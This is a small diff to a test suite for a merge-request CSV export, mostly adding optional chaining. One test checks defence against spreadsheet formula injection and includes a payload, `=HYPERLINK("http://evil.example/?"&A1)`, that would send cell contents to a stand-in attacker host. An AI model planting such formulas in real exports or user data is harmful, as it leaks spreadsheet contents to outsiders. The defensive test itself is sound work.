@@ -123,8 +123,8 @@ describe('GET /<project>/-/merge_requests.csv', () => {
       'Merged Username': '',
       'Milestone ID': String(milestoneId),
     });
-    expect(alpha?.['Assignee Usernames'].split(', ').sort()).toEqual(['mrcsv_dev', 'mrcsv_owner']);
-    expect(alpha?.['Approver Usernames'].split(', ').sort()).toEqual(['mrcsv_dev', 'mrcsv_owner']);
+    expect(alpha?.['Assignee Usernames']?.split(', ').sort()).toEqual(['mrcsv_dev', 'mrcsv_owner']);
+    expect(alpha?.['Approver Usernames']?.split(', ').sort()).toEqual(['mrcsv_dev', 'mrcsv_owner']);
     expect(alpha?.URL).toMatch(/\/mrcsvacme\/web\/-\/merge_requests\/1$/);
     expect(alpha?.['Created At (UTC)']).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC$/);
     const merged = rows.find((r) => r['MR IID'] === String(mergedIid));
@@ -138,7 +138,7 @@ describe('GET /<project>/-/merge_requests.csv', () => {
 
   it('prefixes cells a spreadsheet would run as formulas with a quote', async () => {
     const rows = await exportRows('/mrcsvacme/web/-/merge_requests.csv', 'owner');
-    const formula = rows.find((r) => r.Title.includes('HYPERLINK'));
+    const formula = rows.find((r) => r.Title?.includes('HYPERLINK'));
     expect(formula?.Title).toBe(`'=HYPERLINK("http://evil.example/?"&A1)`);
     expect(formula?.Description).toBe("'@SUM(A1)");
   });
